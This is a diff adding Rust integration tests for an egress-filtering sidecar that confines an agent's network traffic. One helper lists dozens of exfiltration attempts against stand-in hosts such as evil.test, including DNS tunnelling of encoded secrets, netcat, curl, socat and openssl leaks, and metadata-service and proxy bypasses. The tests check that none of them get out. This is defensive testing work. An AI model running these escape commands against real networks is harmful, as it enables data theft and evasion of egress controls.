@@ -1,0 +1,327 @@
+//! The sidecar in a real kernel: what is allowed arrives, and nothing else leaves the pod.
+
+#![expect(
+    clippy::unwrap_used,
+    reason = "a helper of a test fails as the test does"
+)]
+
+mod rig;
+
+use egret_tests::wait_for;
+use rig::{AGENT, OTHER, Rig, SERVER, SERVER6};
+use rustix::process::Signal;
+
+const POLICY: &str = "
+version: 1
+default: deny
+rules:
+  - { name: api, hosts: [api.example.com], action: allow }
+  - { name: git, hosts: [git.example.com], ports: [22], action: tunnel }
+  - { name: rebind, hosts: [rebind.example.com, mixed.example.com], action: allow }
+";
+
+/// Every way out that the literature on netfilter and evasion knows, with real tools, each bounded in time. One shell
+/// line each.
+fn escapes() -> Vec<String> {
+    let mut lines = Vec::new();
+    for resolver in ["8.8.8.8", "9.9.9.9", "2001:db8::10", SERVER6] {
+        for way in ["", "+tcp", "-p 5353", "-p 853 +tcp"] {
+            lines.push(format!(
+                "dig @{resolver} {way} +time=1 +tries=1 secret-1234.evil.test"
+            ));
+        }
+    }
+    for kind in ["TXT", "NULL", "ANY", "MX", "PTR", "A", "HTTPS"] {
+        lines.push(format!(
+            "dig +time=1 +tries=1 dGhpcyBpcyBhIHNlY3JldA.evil.test {kind}"
+        ));
+    }
+    let v4 = [
+        SERVER,
+        OTHER,
+        "203.0.113.10",
+        "198.51.100.10",
+        "169.254.169.254",
+        "10.0.0.1",
+        "10.77.0.1",
+        "10.78.0.2",
+    ];
+    for address in v4 {
+        lines.extend(
+            [22, 25, 443, 853, 3306, 7777]
+                .map(|port| format!("echo leak | timeout 1 nc -w1 {address} {port}")),
+        );
+        lines.extend(
+            [123, 443, 33434]
+                .map(|port| format!("echo leak | timeout 1 nc -u -w1 {address} {port}")),
+        );
+        lines.push(format!("ping -c 1 -W 1 {address}"));
+        lines.push(format!("curl -s -m 2 http://{address}/leak"));
+        lines.push(format!(
+            "curl -s -m 2 -H 'Host: evil.test' http://{address}/leak"
+        ));
+        lines.push(format!(
+            "curl -s -m 2 --http2-prior-knowledge http://{address}/leak"
+        ));
+        lines.push(format!(
+            "curl -sk -m 2 https://{address}/dns-query?dns=AAAA"
+        ));
+        lines.push(format!(
+            "curl -sk -m 2 --resolve evil.test:443:{address} https://evil.test/leak"
+        ));
+    }
+    let v6 = [
+        SERVER6,
+        "2001:db8::10",
+        "fd00:ec2::254",
+        "fd77::1",
+        "fd78::2",
+        "ff02::1%p0",
+        "fe80::1%p0",
+    ];
+    for address in v6 {
+        lines.extend(
+            [53, 443, 7777].map(|port| format!("echo leak | timeout 1 nc -6 -w1 {address} {port}")),
+        );
+        lines.extend(
+            [53, 443].map(|port| format!("echo leak | timeout 1 nc -6 -u -w1 {address} {port}")),
+        );
+        lines.push(format!("ping -6 -c 1 -W 1 {address}"));
+        lines.push(format!("curl -s -m 2 'http://[{address}]/leak'"));
+    }
+    lines.extend(
+        [
+            "echo leak | timeout 1 socat - UDP-SENDTO:93.184.216.34:443",
+            "echo leak | timeout 1 socat - SCTP-CONNECT:93.184.216.34:443",
+            "echo leak | timeout 1 socat - IP-SENDTO:93.184.216.34:253",
+            "echo leak | timeout 1 socat - UDP-DATAGRAM:224.0.0.251:5353",
+            "echo leak | timeout 1 socat - UDP-DATAGRAM:10.77.0.255:9999,broadcast",
+            "timeout 1 openssl s_client -connect 93.184.216.34:443 -servername evil.test",
+            "timeout 1 openssl s_client -connect 93.184.216.99:8443 -noservername",
+            "timeout 1 openssl s_client -starttls smtp -connect 93.184.216.34:25",
+            "curl -s -m 2 http://127.0.0.1:15001/",
+            "curl -s -m 2 -g 'http://[::1]:15001/'",
+            "curl -s -m 2 http://10.77.0.2:15001/",
+            "curl -s -m 2 -x http://127.0.0.1:3128 http://93.184.216.99/leak",
+            "curl -sk -m 2 -x http://127.0.0.1:3128 https://evil.test/leak",
+            "curl -s -m 2 http://127.0.0.1:15000/metrics",
+        ]
+        .map(str::to_owned),
+    );
+    lines
+}
+
+/// Runs every escape as the agent, several at a time, and returns how many packets the witnesses saw.
+fn try_everything(rig: &Rig) -> u64 {
+    let (before, places, escapes) = (rig.witnessed(), &rig.places, escapes());
+    std::thread::scope(|scope| {
+        for share in escapes.chunks(escapes.len().div_ceil(12)) {
+            scope.spawn(move || {
+                for line in share {
+                    places.agent(&["sh", "-c", line]);
+                }
+            });
+        }
+    });
+    rig.witnessed() - before
+}
+
+#[test]
+fn without_the_fence_the_same_attempts_are_seen() {
+    let rig = Rig::new(POLICY);
+    let seen = try_everything(&rig);
+    assert!(seen > 200, "the witnesses and the tools work: {seen}");
+}
+
+#[test]
+fn nothing_leaves_whether_egret_serves_sleeps_is_dead_or_not_yet_there() {
+    let mut rig = Rig::new(POLICY);
+    rig.iptables("apply");
+    assert_eq!(try_everything(&rig), 0, "not yet started");
+    rig.start_egret();
+    assert_eq!(
+        try_everything(&rig),
+        0,
+        "serving: {}",
+        rig.egret().written()
+    );
+    rig.egret().signal(Signal::STOP);
+    assert_eq!(try_everything(&rig), 0, "stopped");
+    rig.egret().signal(Signal::CONT);
+    rig.egret().signal(Signal::KILL);
+    rig.egret().wait();
+    assert_eq!(try_everything(&rig), 0, "killed");
+    rig.start_egret();
+    rig.iptables("check");
+    assert_eq!(try_everything(&rig), 0, "started again");
+}
+
+#[test]
+fn with_the_nat_layer_flushed_the_filter_still_refuses_everything() {
+    let rig = Rig::fenced(POLICY);
+    for iptables in ["iptables", "ip6tables"] {
+        let flushed = rig.places.root(&[iptables, "-t", "nat", "-F"]);
+        assert_eq!(flushed.code, Some(0), "{flushed:?}");
+    }
+    assert_eq!(try_everything(&rig), 0);
+}
+
+#[test]
+fn a_connection_older_than_the_rules_is_cut_even_if_the_other_side_speaks() {
+    let rig = Rig::new(POLICY);
+    let script = format!(
+        "import socket,sys\ns=[socket.create_connection((h,7777)) for h in ('{SERVER}','{SERVER6}')]\n\
+         [c.recv(1) for c in s]\nprint('connected',flush=True)\nsys.stdin.readline()\n\
+         import time\nfor i in range(20):\n  [c.send(b'leak') for c in s]\n  time.sleep(.05)\nprint('sent',flush=True)"
+    );
+    let old = rig
+        .places
+        .agent_process(&["/usr/bin/python3", "-c", &script]);
+    old.line_with("connected");
+    rig.iptables("apply");
+    // What was already on its way may still arrive; from the first quiet moment on, nothing may.
+    let settled = wait_for("a quiet moment", || {
+        let before = rig.witnessed();
+        std::thread::sleep(std::time::Duration::from_millis(200));
+        (rig.witnessed() == before).then_some(before)
+    });
+    std::thread::sleep(std::time::Duration::from_secs(1));
+    assert_eq!(
+        rig.witnessed(),
+        settled,
+        "the agent's acknowledgements do not leave either"
+    );
+}
+
+#[test]
+fn allowed_https_arrives_over_both_families_with_the_certificate_of_the_agents_trust() {
+    let rig = Rig::fenced(POLICY);
+    for family in ["-4", "-6"] {
+        let fetched = rig.places.agent(&[
+            "curl",
+            "-sS",
+            "-m",
+            "10",
+            family,
+            "--cacert",
+            &rig.ca(),
+            "https://api.example.com/hello",
+        ]);
+        assert_eq!(
+            fetched.stdout, "the world says: GET /hello HTTP/1.1\n",
+            "{fetched:?}"
+        );
+    }
+    let records = rig.records();
+    let allowed = records
+        .iter()
+        .filter(|record| record["event"] == "decision" && record["verdict"] == "allow");
+    assert_eq!(allowed.clone().count(), 2, "{records:#?}");
+    assert!(allowed.clone().all(|record| record["via"] == "transparent"));
+}
+
+#[test]
+fn plain_http_is_served_where_our_answers_bind_the_name() {
+    let rig = Rig::fenced(POLICY);
+    let unknown = rig.places.agent(&[
+        "curl",
+        "-s",
+        "-m",
+        "5",
+        "--resolve",
+        &format!("api.example.com:80:{OTHER}"),
+        "http://api.example.com/x",
+    ]);
+    assert!(unknown.stdout.contains("name_mismatch"), "{unknown:?}");
+    let fetched = rig
+        .places
+        .agent(&["curl", "-sS", "-m", "10", "-4", "http://api.example.com/x"]);
+    assert_eq!(
+        fetched.stdout, "the world says: GET /x HTTP/1.1\n",
+        "{fetched:?}"
+    );
+    let other = rig.places.agent(&[
+        "curl",
+        "-s",
+        "-m",
+        "5",
+        "-H",
+        "Host: other.example.com",
+        &format!("http://{SERVER}/x"),
+    ]);
+    assert!(other.stdout.contains("egret_denied"), "{other:?}");
+}
+
+#[test]
+fn a_server_that_speaks_first_is_tunnelled_where_a_rule_says_so() {
+    let rig = Rig::fenced(POLICY);
+    let resolved = rig.places.agent(&["dig", "+short", "git.example.com"]);
+    assert_eq!(resolved.stdout.trim(), SERVER);
+    let greeted = rig.places.agent(&[
+        "sh",
+        "-c",
+        &format!("sleep 2 | timeout 5 nc -w2 {SERVER} 22"),
+    ]);
+    assert_eq!(greeted.stdout.trim(), "SSH-2.0-world", "{greeted:?}");
+    let tunnelled = rig
+        .records()
+        .into_iter()
+        .any(|record| record["verdict"] == "tunnel");
+    assert!(tunnelled, "{:#?}", rig.records());
+}
+
+#[test]
+fn names_are_resolved_only_where_a_rule_could_allow_them_and_never_inwards() {
+    let rig = Rig::fenced(POLICY);
+    let asked = |name: &str, kind: &str| {
+        rig.places
+            .agent(&[
+                "dig",
+                "+time=2",
+                "+tries=1",
+                "+noall",
+                "+comments",
+                "+answer",
+                name,
+                kind,
+            ])
+            .stdout
+    };
+    assert!(asked("api.example.com", "A").contains(SERVER));
+    assert!(asked("API.EXAMPLE.COM", "AAAA").contains(SERVER6));
+    let before = rig.witnessed();
+    for name in [
+        "evil.test",
+        "secret.api.example.com",
+        "other.example.com",
+        "example.com",
+    ] {
+        assert!(asked(name, "A").contains("REFUSED"), "{name}");
+    }
+    let token = "ghp_1234567890abcdefghijklmnopqrstuvwxyzAB.api.example.com";
+    assert!(asked(token, "A").contains("REFUSED"));
+    assert_eq!(rig.witnessed(), before, "no query left");
+    assert!(!asked("rebind.example.com", "A").contains("10.0.0.1"));
+    let mixed = asked("mixed.example.com", "A");
+    assert!(
+        mixed.contains(SERVER) && !mixed.contains("169.254"),
+        "{mixed}"
+    );
+    let tcp = rig
+        .places
+        .agent(&["dig", "+tcp", "+short", "@9.9.9.9", "api.example.com"]);
+    assert_eq!(tcp.stdout.trim(), SERVER, "every resolver is ours");
+    let refusals = rig
+        .records()
+        .iter()
+        .filter(|record| record["destination"]["host"] == "evil.test")
+        .count();
+    assert_eq!(refusals, 1, "refusals are on record");
+}
+
+#[test]
+fn the_agents_user_is_not_egrets() {
+    let rig = Rig::fenced(POLICY);
+    let id = rig.places.agent(&["id", "-u"]);
+    assert_eq!(id.stdout.trim(), AGENT.to_string());
+}
